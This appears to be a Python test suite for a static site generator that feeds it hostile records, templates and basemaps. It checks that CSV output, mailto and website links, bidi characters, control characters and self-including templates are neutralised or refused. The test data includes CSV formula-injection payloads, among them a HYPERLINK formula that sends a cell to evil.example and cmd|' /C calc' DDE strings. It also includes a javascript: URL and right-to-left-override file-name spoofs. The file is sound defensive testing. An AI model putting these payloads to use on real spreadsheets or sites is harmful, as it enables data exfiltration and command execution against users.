"""Unsafe output, templates that explode and messages that mislead: real
sites built from hostile records, templates and basemaps, checked with the
parsers that the public's software uses (csv, XML, html5lib)."""
import contextlib
import csv
import io
import os
import re
import shutil
import struct
import xml.etree.ElementTree as ET

import html5lib

from e2e import (test, run, min_site, tree_digest, write_record, record, ROOT,
                 SVG_NS, html_pages, read)

INST = os.path.join("content", "institutions")

# Explicit bidi formatting characters: none may reach the output.
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# Characters XML 1.0 forbids even as character references.
XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def write_raw(site, slug, text):
    """content/institutions/<slug>.md with text as given (bytes or str)."""
    path = os.path.join(site, INST, slug + ".md")
    with open(path, "wb") as fh:
        fh.write(text if isinstance(text, bytes) else text.encode("utf-8"))
    return "content/institutions/%s.md" % slug


def front(lines, body="A test record.\n"):
    return "---\n" + "\n".join(lines) + "\n---\n" + body


BASE = ["country: UG", "city: Kampala", "location: [0.35, 32.6]",
        "networks: [global]", "exchanges: [undergraduate]"]


def error_lines(se):
    return [l for l in se.splitlines() if ": error: " in l]


def assert_fails_with(site, *errors, command="build"):
    """partnermap COMMAND of site must fail with exactly these errors."""
    rc, _, se = run(command, "-C", site)
    assert rc == 1, se
    assert error_lines(se) == list(errors), se


def output_files(out):
    for dirpath, _, files in os.walk(out):
        for f in files:
            yield os.path.join(dirpath, f)


@contextlib.contextmanager
def own_theme():
    """A min site whose theme is a copy it may change."""
    with min_site() as (site, tmp):
        os.unlink(os.path.join(site, "themes"))
        shutil.copytree(os.path.join(ROOT, "themes"), os.path.join(site, "themes"))
        yield site, os.path.join(site, "themes", "default", "templates")


def put(folder, name, text):
    with open(os.path.join(folder, name), "w", encoding="utf-8") as fh:
        fh.write(text)


# ------------------------------------------------------------------ CSV ---

FORMULAS = {
    "eq": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fw-eq": "\uff1d1+1",
    "fw-plus": "\uff0b1",
    "fw-minus": "\uff0d1",
    "fw-at": "\uff20SUM(A1)",
}


@test
def unsafe_output_csv_formula_cells_are_neutralised():
    with min_site() as (site, tmp):
        for slug, text in FORMULAS.items():
            f = record("UG", "Kampala", 0.35, 32.6)
            f["name"] = '"%s"' % text.replace("\\", "\\\\").replace('"', '\\"')
            f["city"] = '"%s"' % text.replace('"', '\\"')
            write_record(site, "formula-" + slug, **f)
        # negative coordinates are numbers, and stay numbers
        write_record(site, "cape-town", **record("ZA", "Cape Town", -33.9249, 18.4241))
        write_record(site, "lima", **record("PE", "Lima", -12.0464, -77.0428))
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        with open(os.path.join(site, "output", "partners.csv"), "rb") as fh:
            rows = list(csv.reader(io.StringIO(fh.read().decode("utf-8"), newline="")))
        head, body = rows[0], rows[1:]
        col = {name: i for i, name in enumerate(head)}
        by_slug = {r[col["slug"]]: r for r in body}
        for slug, text in FORMULAS.items():
            row = by_slug["formula-" + slug]
            assert row[col["name"]] == "'" + text, (slug, row[col["name"]])
            assert row[col["city"]] == "'" + text, (slug, row[col["city"]])
        assert by_slug["cape-town"][col["latitude"]] == "-33.9249"
        assert by_slug["lima"][col["longitude"]] == "-77.0428"
        assert by_slug["lima"][col["latitude"]] == "-12.0464"
        leads = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
        for row in body:
            for name, cell in zip(head, row):
                if name in ("latitude", "longitude"):
                    float(cell)  # a number, as written
                    continue
                assert not cell.startswith(leads), (name, cell)


# --------------------------------------------------------- e-mail, URLs ---

@test
def unsafe_output_mailto_is_one_plain_address():
    with min_site() as (site, tmp):
        hostile = "x%40evil.example?subject=Invoice&body=Pay%20now&x=@example.org"
        rel = write_raw(site, "hostile", front(
            ["name: Hostile School", 'email: "%s"' % hostile] + BASE))
        assert_fails_with(site,
            "%s:3:8: error: email '%s' does not look like an e-mail address "
            "('%%' is not allowed before the @): write one plain address such as "
            "name@example.org, without %%, ?, &, spaces, quotes or comments; "
            "did you mean x@evil.example?" % (rel, hostile))
        for bad, why in (
                ("Office <office@example.org>", "only the address, without a name or angle brackets"),
                ("a b@example.org", "no spaces"),
                ("a@b@example.org", "more than one @"),
                ("a(comment)@example.org", "no comments in parentheses"),
                ("a\u200e@example.org", "no invisible characters (U+200E (LEFT-TO-RIGHT MARK))"),
                ("a@exa\u202emple.org", "no invisible characters (U+202E (RIGHT-TO-LEFT OVERRIDE))"),
                ("a&b@example.org", "'&' is not allowed before the @"),
                ("a?b@example.org", "'?' is not allowed before the @")):
            rel = write_raw(site, "hostile", front(
                ["name: Hostile School", 'email: "%s"' % bad] + BASE))
            rc, _, se = run("check", "-C", site)
            assert rc == 1, se
            lines = error_lines(se)
            # a bidi override is refused before the address is looked at
            if "\u202e" in bad:
                assert len(lines) == 1 and "RIGHT-TO-LEFT OVERRIDE" in lines[0], se
                continue
            assert len(lines) == 1 and lines[0].startswith(rel + ":3:8: error: email "), se
            assert "(%s)" % why in lines[0], (bad, se)
        # an odd but plain address: the mailto: link holds it, encoded
        write_raw(site, "hostile", front(
            ["name: Hostile School", "email: \"o'brien#x/y=z@example.org\""] + BASE))
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        page = os.path.join(site, "output", "institutions", "hostile", "index.html")
        doc = html5lib.parse(open(page, "rb"), treebuilder="dom", namespaceHTMLElements=False)
        hrefs = [a.getAttribute("href") for a in doc.getElementsByTagName("a")
                 if a.getAttribute("href").startswith("mailto:")]
        assert hrefs == ["mailto:o'brien%23x%2Fy%3Dz@example.org"], hrefs


@test
def unsafe_output_website_urls_are_checked_and_encoded():
    with min_site() as (site, tmp):
        bad = {
            "https://user:pass@evil.example/": "no user name or password before the host",
            "https://evil.example\u202e/gro.elpmaxe": "no invisible characters",
            "https://ex\u200bample.org/": "no invisible characters",
            "https://example.org/a b": "no spaces or control characters",
            "javascript:alert(1)": "it must start with http:// or https://",
        }
        for i, url in enumerate(bad):
            write_raw(site, "w%d" % i, front(
                ["name: School %d" % i, 'website: "%s"' % url] + BASE))
        rc, _, se = run("check", "-C", site)
        assert rc == 1, se
        for i, (url, why) in enumerate(bad.items()):
            rel = "content/institutions/w%d.md" % i
            lines = [l for l in error_lines(se) if l.startswith(rel + ":")]
            assert len(lines) == 1, (url, se)
            if "\u202e" in url:
                assert "RIGHT-TO-LEFT OVERRIDE" in lines[0], lines
            else:
                assert lines[0].startswith(rel + ":3:10: error: website must be an http(s) URL (%s" % why), lines
        for i in range(len(bad)):
            os.unlink(os.path.join(site, INST, "w%d.md" % i))
        write_raw(site, "odd", front(
            ["name: Odd School",
             "website: \"https://example.org/a b?q=\\\"><x>&r=é#f#g\""] + BASE))
        rc, _, se = run("build", "-C", site)
        assert rc == 1 and "no spaces" in se, se
        write_raw(site, "odd", front(
            ["name: Odd School",
             "website: \"https://example.org/a?q=\\\"><x>&r=é#f#g%zz\""] + BASE))
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        want = "https://example.org/a?q=%22%3E%3Cx%3E&r=%C3%A9#f%23g%25zz"
        page = os.path.join(site, "output", "institutions", "odd", "index.html")
        doc = html5lib.parse(open(page, "rb"), treebuilder="dom", namespaceHTMLElements=False)
        hrefs = [a.getAttribute("href") for a in doc.getElementsByTagName("a")
                 if "external" in a.getAttribute("class").split()]
        assert hrefs == [want], hrefs
        with open(os.path.join(site, "output", "partners.csv"), encoding="utf-8", newline="") as fh:
            rows = {r["slug"]: r for r in csv.DictReader(fh)}
        assert rows["odd"]["website"] == want


# ------------------------------------------------------------------ bidi ---

@test
def unsafe_output_bidi_controls_are_refused():
    with min_site() as (site, tmp):
        cases = {
            "name": ('name: "Invoice\\u202Egnp.exe"', 2, 7, "name contains U+202E (RIGHT-TO-LEFT OVERRIDE)"),
            "city": ('city: "Kam\\u2067pala"', 4, 7, "city contains U+2067 (RIGHT-TO-LEFT ISOLATE)"),
            "embed": ('city: "Kam\\u202Apala"', 4, 7, "city contains U+202A (LEFT-TO-RIGHT EMBEDDING)"),
        }
        for slug, (line, l, c, msg) in cases.items():
            key = line.split(":")[0]
            lines = ["name: School %s" % slug] + BASE
            lines = [line if x.startswith(key + ":") else x for x in lines]
            write_raw(site, slug, front(lines))
        body = write_raw(site, "body", front(["name: Body School"] + BASE,
                                             "First line.\nSee \u202efdp.exe here.\n"))
        rc, _, se = run("check", "-C", site)
        assert rc == 1, se
        for slug, (line, l, c, msg) in cases.items():
            want = "content/institutions/%s.md:%d:%d: error: %s, which reorders the text shown after it; remove it" % (slug, l, c, msg)
            assert any(x.startswith(want) for x in error_lines(se)), (want, se)
        assert body + ":10:5: error: the text contains U+202E (RIGHT-TO-LEFT OVERRIDE)" in se, se
        assert len(error_lines(se)) == 4, se
        # marks (LRM, RLM, ALM) belong in mixed-direction names: accepted,
        # and the output holds no override, embedding or isolate at all
        for slug in list(cases) + ["body"]:
            os.unlink(os.path.join(site, INST, slug + ".md"))
        write_raw(site, "marks", front(
            ['name: "\u062c\u0627\u0645\u0639\u0629\u200f (Cairo) School"'] + BASE,
            "Body &#x202E;gnp.exe and &#x2066;x.\n"))
        # a reference that makes one is an error at its place too ...
        rc, _, se = run("build", "-C", site)
        assert rc == 1, se
        marks = "content/institutions/marks.md"
        assert error_lines(se) == [
            marks + ":9:6: error: the body holds '&#x202E;', a character reference to "
            "U+202E (RIGHT-TO-LEFT OVERRIDE), which reorders the text shown after it: "
            "remove it (right-to-left text needs no such character)",
            marks + ":9:26: error: the body holds '&#x2066;', a character reference to "
            "U+2066 (LEFT-TO-RIGHT ISOLATE), which reorders the text shown after it: "
            "remove it (right-to-left text needs no such character)"], se
        # ... but in code, or escaped, it is text, shown as written
        write_raw(site, "marks", front(
            ['name: "\u062c\u0627\u0645\u0639\u0629\u200f (Cairo) School"'] + BASE,
            "Body `&#x202E;gnp.exe` and \\&#x2066;x.\n"))
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        out = os.path.join(site, "output")
        for path in output_files(out):
            with open(path, "rb") as fh:
                text = fh.read().decode("utf-8", "replace")
            found = [c for c in BIDI_CONTROLS if c in text]
            assert not found, (path, found)
        page = read(os.path.join(out, "institutions", "marks", "index.html"))
        assert "\u200f (Cairo)" in page
        assert "<code>&amp;#x202E;gnp.exe</code> and &amp;#x2066;x." in page, page


# ------------------------------------------------------- NUL, controls ---

@test
def unsafe_output_nul_escapes_are_errors_not_cut_fields():
    with min_site() as (site, tmp):
        a = write_raw(site, "yaml-nul", front(['name: "Evil\\0 Appended"'] + BASE))
        b = write_raw(site, "yaml-x00", front(['name: Fine', 'country: UG', 'city: "Kam\\x00pala"'] + BASE[2:]))
        c = write_raw(site, "yaml-u0000", front(['name: "Evil\\u0000"'] + BASE))
        d = write_raw(site, "json-nul",
                      '{"name": "Fine", "country": "UG",\n "city": "Kam\\u0000pala",'
                      ' "location": [0.35, 32.6], "networks": ["global"],'
                      ' "exchanges": ["undergraduate"]}\nBody.\n')
        e = write_raw(site, "key-nul", front(['"na\\0me": Fine', "name: Fine"] + BASE))
        rc, _, se = run("build", "-C", site)
        assert rc == 1, se
        nul = "contains a NUL character"
        # told at the escape, in YAML as in JSON
        want = [a + ":2:12: error: name " + nul + " (the escape \\0)",
                b + ":4:11: error: city " + nul + " (the escape \\x00)",
                c + ":2:12: error: name " + nul + " (the escape \\u0000)",
                d + ":2:14: error: city " + nul + " (the escape \\u0000), which would cut it short; remove it",
                e + ":2:4: error: a key " + nul + " (the escape \\0)"]
        for w in want:
            assert any(l.startswith(w) for l in error_lines(se)), (w, se)
        assert len(error_lines(se)) == len(want), se
        assert not os.path.exists(os.path.join(site, "output"))


def write_dbf_name(site, old, new):
    """A copy of the basemap in site/geodata whose DBF has the country name
    old (bytes) replaced by new (bytes, padded to the same width)."""
    src = os.path.join(ROOT, "geodata")
    os.unlink(os.path.join(site, "geodata"))
    shutil.copytree(src, os.path.join(site, "geodata"))
    path = os.path.join(site, "geodata", "naturalearth_lowres.dbf")
    data = open(path, "rb").read()
    padded = old.ljust(len(new), b" ")
    at = data.index(padded)
    assert len(new) <= len(padded)
    data = data[:at] + new.ljust(len(padded), b" ") + data[at + len(padded):]
    with open(path, "wb") as fh:
        fh.write(data)


@test
def unsafe_output_control_characters_never_reach_map_or_pages():
    with min_site() as (site, tmp):
        # the .cpg says ISO-8859-1: 0x9B is U+009B, a terminal's CSI
        write_dbf_name(site, b"Uganda", b"Ug\x01an\x1b[2Jda\x0c\x9b2J")
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        assert re.search(r'^geodata/naturalearth_lowres\.dbf:1:1: warning: record \d+: '
                         r'control characters in field "name" were removed, giving '
                         r'"Ugan\[2Jda 2J"', se, re.M), se
        assert "\x1b" not in se, "a terminal escape reached the messages"
        out = os.path.join(site, "output")
        svg = open(os.path.join(out, "map.svg"), "rb").read()
        root = ET.fromstring(svg)  # well-formed XML 1.0
        titles = [t.text for p in root.iter(SVG_NS + "path") if p.get("id") == "country-UGA"
                  for t in p.iter(SVG_NS + "title")]
        assert titles == ["Ugan[2Jda 2J"], titles  # a page break reads as a space
        for path in output_files(out):
            with open(path, "rb") as fh:
                text = fh.read().decode("utf-8", "replace")
            assert not XML_FORBIDDEN.search(text), path
            assert "\x7f" not in text and not re.search("[\x80-\x9f]", text), path
    with min_site() as (site, tmp):
        # from a body: raw characters are errors at their place ...
        rel = write_raw(site, "body", front(["name: Body School"] + BASE,
                                            "Line one.\nA \x1b[31mred\x07 bell.\n"))
        assert_fails_with(site,
            rel + ":10:3: error: the text contains a control character (U+001B); "
            "remove it (it would make the page unreadable)",
            rel + ":10:11: error: the text contains a control character (U+0007); "
            "remove it (it would make the page unreadable)")
        # ... and so are character references that make one
        write_raw(site, "body", front(["name: Body School"] + BASE,
                                      "A &#1;bell&#x7; and &#x85;next.\n"))
        assert_fails_with(site,
            rel + ":9:3: error: the body holds '&#1;', a character reference to a "
            "control character (U+0001), which no page may hold: remove it",
            rel + ":9:11: error: the body holds '&#x7;', a character reference to a "
            "control character (U+0007), which no page may hold: remove it",
            rel + ":9:21: error: the body holds '&#x85;', a character reference to a "
            "control character (U+0085), which no page may hold: remove it")
        # in a code span they are text
        write_raw(site, "body", front(["name: Body School"] + BASE,
                                      "A `&#1;bell&#x7;` and next.\n"))
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        page = read(os.path.join(site, "output", "institutions", "body", "index.html"))
        assert "<p>A <code>&amp;#1;bell&amp;#x7;</code> and next.</p>" in page, page
        parser = html5lib.HTMLParser(strict=False)
        parser.parse(open(os.path.join(site, "output", "institutions", "body", "index.html"), "rb"))
        assert not [e for e in parser.errors if "control" in e[1]], parser.errors
    with own_theme() as (site, tpl):
        # from a template: an error at its line and column
        text = read(os.path.join(tpl, "footer.mustache"))
        put(tpl, "footer.mustache", "<p>\n  a\x0bb</p>\n" + text)
        assert_fails_with(site,
            "themes/default/templates/footer.mustache:2:4: error: the template contains "
            "a control character (U+000B); remove it (it would break every page made "
            "from it)")


# ------------------------------------------------- templates that explode ---

def explode(setup, expect):
    """Build once, then break the theme with setup(templates): check and
    the build fail with exactly the errors expected (regexes), and the
    build writes nothing and keeps the previous output."""
    with own_theme() as (site, tpl):
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        out = os.path.join(site, "output")
        before = tree_digest(out)
        setup(tpl)
        # check renders a page of each kind, every free page among them:
        # it stops where the build would (it passed these before)
        for command in ("check", "build"):
            rc, _, se = run(command, "-C", site)
            assert rc == 1, (command, rc, se)
            errors = error_lines(se)
            assert len(errors) == len(expect), (command, se)
            for line, pattern in zip(errors, expect):
                assert re.match(pattern, line), (command, pattern, line)
        assert "nothing was written" in se, se
        assert tree_digest(out) == before, "the previous output changed"
        assert not [d for d in os.listdir(site) if "staging" in d], os.listdir(site)


def include_in_page(tpl, tag):
    text = read(os.path.join(tpl, "page.mustache"))
    put(tpl, "page.mustache", text.replace("<h1>{{title}}</h1>", "<h1>{{title}}</h1>" + tag))


@test
def templates_that_explode_recursion_is_an_error():
    # whatever the data: said by check, before any page is rendered
    def setup(tpl):
        put(tpl, "self.mustache", "x\n{{>self}}")
        include_in_page(tpl, "{{>self}}")
    explode(setup, [
        r"themes/default/templates/self\.mustache:2:1: error: \{\{>self\}\} includes "
        r"'self' again whatever the data \(self -> self\), so the page would never end"])

    # over data that never ends: the render stops it
    def over_data(tpl):
        put(tpl, "self.mustache", "x\n{{#site}}{{>self}}{{/site}}")
        include_in_page(tpl, "{{>self}}")
    explode(over_data, [
        r"themes/default/templates/self\.mustache:2:10: error: \{\{>self\}\} nests "
        r"partials, parents or blocks more than 100 deep: does a template include "
        r"itself without end\?"])


# the file each kind of page is written to
PAGES_OF = {"home": r"index\.html", "institution": r"institutions/[a-z-]+/index\.html",
            "network": r"networks/[a-z-]+/index\.html",
            "country": r"countries/[a-z]{2}/index\.html",
            "elective": r"electives/[a-z]+/index\.html", "page": r"about/index\.html",
            "404": r"404\.html"}


@test
def check_renders_a_page_of_each_kind_to_find_what_stops_a_build():
    """A template of any kind of page that includes itself over data that
    never ends passed check, and only the build stopped at it: check now
    renders one page of each kind and says it, at the template's line."""
    for kind in ("home", "institution", "network", "country", "elective", "page", "404"):
        with own_theme() as (site, tpl):
            put(tpl, "loop.mustache", "{{#site}}{{>loop}}{{/site}}")
            text = read(os.path.join(tpl, kind + ".mustache"))
            put(tpl, kind + ".mustache", text + "{{>loop}}\n")
            for command in ("check", "build"):
                rc, _, se = run(command, "-C", site)
                assert rc == 1, (kind, command, rc, se)
                lines = error_lines(se)
                assert len(lines) == 1, (kind, command, se)
                head, page = lines[0].rsplit("; ", 1)
                assert head == (
                    "themes/default/templates/loop.mustache:1:10: error: {{>loop}} nests "
                    "partials, parents or blocks more than 100 deep: does a template "
                    "include itself without end? Make the recursion stop with a section "
                    "over data that ends, or remove it"), (kind, command, se)
                # the page it was making, named
                assert re.fullmatch(PAGES_OF[kind] + " was not written", page), \
                    (kind, command, page)
            assert not os.path.exists(os.path.join(site, "output")), kind


@test
def check_renders_the_institution_that_shows_the_most():
    """check rendered the first institution's page alone, so a template
    that fails only on a part of a record the first one lacks (a local
    name, here) passed it and stopped the build. It renders the page of
    the record that shows the most, and fails with the build."""
    with own_theme() as (site, tpl):
        rec = os.path.join(site, "content", "institutions", "makerere.md")
        put(os.path.dirname(rec), "makerere.md",
            read(rec).replace("city: Kampala", "city: Kampala\nlocal_name: Makerere"))
        put(tpl, "loop.mustache", "{{#local_name}}{{>loop}}{{/local_name}}")
        text = read(os.path.join(tpl, "institution.mustache"))
        put(tpl, "institution.mustache",
            text.replace("{{#institution}}", "{{#institution}}{{>loop}}", 1))
        for command in ("check", "build"):
            rc, _, se = run(command, "-C", site)
            assert rc == 1, (command, rc, se)
            assert len(error_lines(se)) == 1 and "loop.mustache:1:16: error: " in se, \
                (command, se)


@test
def check_says_what_a_build_would_stop_at_in_templates_and_texts():
    """check passed a template that includes itself whatever the data, and
    a text of another language's translation file that does so or names
    no template, all of which the build then stopped at (or, for the
    French text, rendered as nothing): check now says each, at its line."""
    with own_theme() as (site, tpl):
        put(tpl, "footer.mustache", read(os.path.join(tpl, "footer.mustache")) + "{{>footer}}\n")
        yml = os.path.join(site, "site.yml")
        put(site, "site.yml", re.sub(r"(?m)^language: en$", "languages: [en, fr]", read(yml)))
        os.makedirs(os.path.join(site, "i18n"), exist_ok=True)
        put(os.path.join(site, "i18n"), "fr.yml",
            'note: "a {{>i18n.note}}"\nskip_to_content: "{{>i18n.nope}}"\n'
            'made_with: "{{$b}}{{>i18n.made_with}}{{/b}}"\n')
        lines = read(os.path.join(tpl, "footer.mustache")).count("\n")
        rc, so, se = run("check", "-C", site)
        assert rc == 1, (rc, se)
        assert sorted(error_lines(se)) == sorted([
            "themes/default/templates/footer.mustache:%d:1: error: {{>footer}} includes "
            "'footer' again whatever the data (footer -> footer), so the page would never "
            "end: put the inclusion inside a section over data that ends, or remove it"
            % lines,
            "i18n/fr.yml:1:7: error: {{>i18n.note}} includes 'i18n.note' again whatever "
            "the data (i18n.note -> i18n.note), so the page would never end: put the "
            "inclusion inside a section over data that ends, or remove it",
            "i18n/fr.yml:2:18: error: partial {{>i18n.nope}} names no template: there is "
            "no template 'i18n.nope'",
            # inside a block's default, which renders unless overridden
            "i18n/fr.yml:3:12: error: {{>i18n.made_with}} includes 'i18n.made_with' again "
            "whatever the data (i18n.made_with -> i18n.made_with), so the page would "
            "never end: put the inclusion inside a section over data that ends, or "
            "remove it"]), se
        assert not os.path.exists(os.path.join(site, "output"))


@test
def templates_that_explode_fan_out_is_an_error():
    # includes itself twice per level: stopped on the way down
    def twice(tpl):
        put(tpl, "twice.mustache", "{{#site}}{{>twice}}{{>twice}}{{/site}}")
        include_in_page(tpl, "{{>twice}}")
    explode(twice, [
        r"themes/default/templates/twice\.mustache:1:10: error: \{\{>twice\}\} nests "
        r"partials, parents or blocks more than 100 deep"])

    # bounded, but 2^30 expansions: the step budget stops it
    def levels(tpl):
        for k in range(1, 30):
            put(tpl, "f%d.mustache" % k, "{{>f%d}}{{>f%d}}" % (k + 1, k + 1))
        put(tpl, "f30.mustache", "a")
        include_in_page(tpl, "{{>f1}}")
    explode(levels, [
        r"themes/default/templates/f\d+\.mustache:1:(1|9): error: rendering took more "
        r"than 16777216 steps and stopped at \{\{>f\d+\}\}: a partial included more than "
        r"once at each level of a recursion, or sections over lists nested in one "
        r"another, grow exponentially"])


@test
def templates_that_explode_deep_sections_are_an_error():
    def setup(tpl):
        put(tpl, "deep.mustache", "{{#site}}" * 12 + "{{>deep}}" + "{{/site}}" * 12)
        include_in_page(tpl, "{{>deep}}")
    explode(setup, [
        r"themes/default/templates/deep\.mustache:1:\d+: error: \{\{#site\}\} nests "
        r"sections and partials more than 1000 deep"])

    def one_template(tpl):
        include_in_page(tpl, "{{#site}}" * 1001 + "{{/site}}" * 1001)
    explode(one_template, [
        r"themes/default/templates/page\.mustache:\d+:\d+: error: sections nested "
        r"more than 1000 deep; nest them less"])


@test
def templates_that_explode_huge_output_is_an_error():
    def setup(tpl):
        put(tpl, "big.mustache", "x" * 65536)
        put(tpl, "l1.mustache", "{{>big}}" * 16)
        put(tpl, "l2.mustache", "{{>l1}}" * 16)
        put(tpl, "l3.mustache", "{{>l2}}" * 16)
        put(tpl, "l4.mustache", "{{>l3}}" * 16)
        include_in_page(tpl, "{{>l4}}")
    explode(setup, [
        r"themes/default/templates/(l\d|big)\.mustache:1:\d+: error: the page grew "
        r"past 268435456 bytes \(the output limit\) at \{\{>(l\d|big)\}\}; a template "
        r"repeats too much; about/index\.html was not written$"])


# ------------------------------------------------- messages that mislead ---

@test
def messages_that_mislead_json_nesting_names_the_limit():
    with min_site() as (site, tmp):
        deep = 2000  # past cJSON's own limit as well as ours
        rel = write_raw(site, "deep", '{"name": "Deep", "electives": ' + "[" * deep + "]" * deep +
                        ', "country": "UG"}\n')
        assert_fails_with(site,
            rel + ":1:62: error: values are nested more than 32 levels deep (the limit "
            "for front matter); flatten them", command="check")


@test
def messages_that_mislead_a_broken_template_is_one_error():
    with own_theme() as (site, tpl):
        put(tpl, "page.mustache", "{{<base}}{{$main}}{{#x}}{{/main}}{{/base}}\n")
        put(tpl, "footer.mustache", "<footer>{{/nothing}}</footer>\n")
        rc, _, se = run("build", "-C", site)
        assert rc == 1, se
        errors = error_lines(se)
        assert len(errors) == 2, se
        assert errors[0].startswith("themes/default/templates/footer.mustache:1:9: error: close tag {{/nothing}}"), se
        assert errors[1].startswith("themes/default/templates/page.mustache:1:25: error: mismatched close tag {{/main}}"), se
        assert "has no page.mustache" not in se and "names no template" not in se, se


@test
def messages_that_mislead_a_broken_site_yml_is_one_error():
    with min_site() as (site, tmp):
        with open(os.path.join(site, "site.yml"), "a", encoding="utf-8") as fh:
            fh.write("  points: points/partners.shp\nbroken: [\n")
        fields = record("KE", "Nairobi", 0, 0)
        del fields["location"]  # would come from the point file
        write_record(site, "nairobi", **fields)
        rc, _, se = run("check", "-C", site)
        assert rc == 1, se
        errors = error_lines(se)
        assert len(errors) == 1 and errors[0].startswith("site.yml:"), se


@test
def messages_that_mislead_a_broken_network_is_one_error():
    with min_site() as (site, tmp):
        with open(os.path.join(site, "content", "networks", "africa.md"), "w") as fh:
            fh.write("---\nname: [African Network\n---\n")
        rc, _, se = run("check", "-C", site)
        assert rc == 1, se
        errors = error_lines(se)
        # at the '[' that is never closed
        assert errors == ["content/networks/africa.md:2:7: error: the list opened "
                          "here with [ is not closed: end it with ]"], se
        assert "unknown network" not in se, se


@test
def messages_that_mislead_never_drive_the_terminal():
    with min_site() as (site, tmp):
        rel = write_raw(site, "keys", front(["name: Keys", '"\\e[2J\\u202Ebad": 1'] + BASE))
        rc, _, se = run("check", "-C", site)
        assert rc == 0, se
        assert (rel + ":3:1: warning: unknown key '<U+001B>[2J<U+202E>bad' (ignored)") in se, se
        assert "\x1b" not in se and "\u202e" not in se


# ------------------------------------------------------------- the feed ---

FEED_NS = "{http://www.w3.org/2005/Atom}"


def feed_updated(site):
    feed = ET.parse(os.path.join(site, "output", "feed.xml")).getroot()
    return feed.find(FEED_NS + "updated").text


@test
def feed_without_joined_dates_is_dated_by_its_sources():
    with min_site() as (site, tmp):
        for dirpath, _, files in os.walk(os.path.join(site, "content")):
            for f in files:
                path = os.path.join(dirpath, f)
                text = read(path)
                text = re.sub(r"(?m)^joined:.*\n", "", text)  # YAML
                text = re.sub(r',\s*"joined": "[^"]*"', "", text)  # JSON
                assert "joined" not in text, path
                with open(path, "w", encoding="utf-8") as fh:
                    fh.write(text)
                os.utime(path, (1600000000, 1600000000))
        os.utime(os.path.join(site, "site.yml"), (1500000000, 1500000000))
        newest = os.path.join(site, INST, "makerere.md")
        os.utime(newest, (1714560000, 1714560000))
        saved = os.environ.pop("SOURCE_DATE_EPOCH", None)
        try:
            rc, _, se = run("build", "-C", site)
            assert rc == 0, se
            # the newest modification time of site.yml and the records
            assert feed_updated(site) == "2024-05-01T10:40:00Z"
            first = tree_digest(os.path.join(site, "output"))
            rc, _, se = run("build", "-C", site)
            assert rc == 0, se
            assert tree_digest(os.path.join(site, "output")) == first, "not reproducible"
            os.environ["SOURCE_DATE_EPOCH"] = "1262304000"
            rc, _, se = run("build", "-C", site)
            assert rc == 0, se
            assert feed_updated(site) == "2010-01-01T00:00:00Z"
            os.environ["SOURCE_DATE_EPOCH"] = "yesterday"
            assert_fails_with(site,
                "partnermap: error: SOURCE_DATE_EPOCH is 'yesterday': it must be a whole "
                "number of seconds since 1970-01-01 00:00 UTC, such as 1714560000 (or "
                "unset, to date the feed by the content files)")
        finally:
            os.environ.pop("SOURCE_DATE_EPOCH", None)
            if saved is not None:
                os.environ["SOURCE_DATE_EPOCH"] = saved


@test
def unsafe_output_noncharacter_escapes_are_errors():
    """"\\uFFFE" in a name passed every check: libxml2 then wrote map.svg
    and the feeds ill-formed (XML 1.0 has no U+FFFE or U+FFFF), printing
    its own complaints, and the build succeeded. An escape to either is
    now an error at its value, in YAML and JSON front matter alike, and a
    basemap name holding one is cleaned as a control character is."""
    with min_site() as (site, tmp):
        a = write_raw(site, "yaml-fffe", front(['name: "Esc \\uFFFE x"'] + BASE))
        b = write_raw(site, "json-ffff",
                      '{"name": "Fine", "country": "UG",\n "city": "Kam\\uFFFFpala",'
                      ' "location": [0.35, 32.6], "networks": ["global"],'
                      ' "exchanges": ["undergraduate"]}\nBody.\n')
        rc, _, se = run("build", "-C", site)
        assert rc == 1, se
        assert error_lines(se) == [
            b + ":2:10: error: city contains a noncharacter (U+FFFF); remove it (it would "
            "make the map and feeds unreadable)",
            a + ":2:7: error: name contains a noncharacter (U+FFFE); remove it (it would "
            "make the map and feeds unreadable)",
        ], se
        assert "output error" not in se, se
        assert not os.path.exists(os.path.join(site, "output"))
    with min_site() as (site, tmp):
        # the basemap's .cpg says ISO-8859-1, so a DBF cannot hold U+FFFE:
        # a UTF-8 one can
        write_dbf_name(site, b"Uganda", "Ug\ufffeanda".encode("utf-8"))
        with open(os.path.join(site, "geodata", "naturalearth_lowres.cpg"), "w") as fh:
            fh.write("UTF-8\n")
        rc, _, se = run("build", "-C", site)
        assert rc == 0, se
        assert "output error" not in se, se
        svg = open(os.path.join(site, "output", "map.svg"), "rb").read()
        ET.fromstring(svg)  # well-formed XML 1.0
        assert "\ufffe".encode("utf-8") not in svg
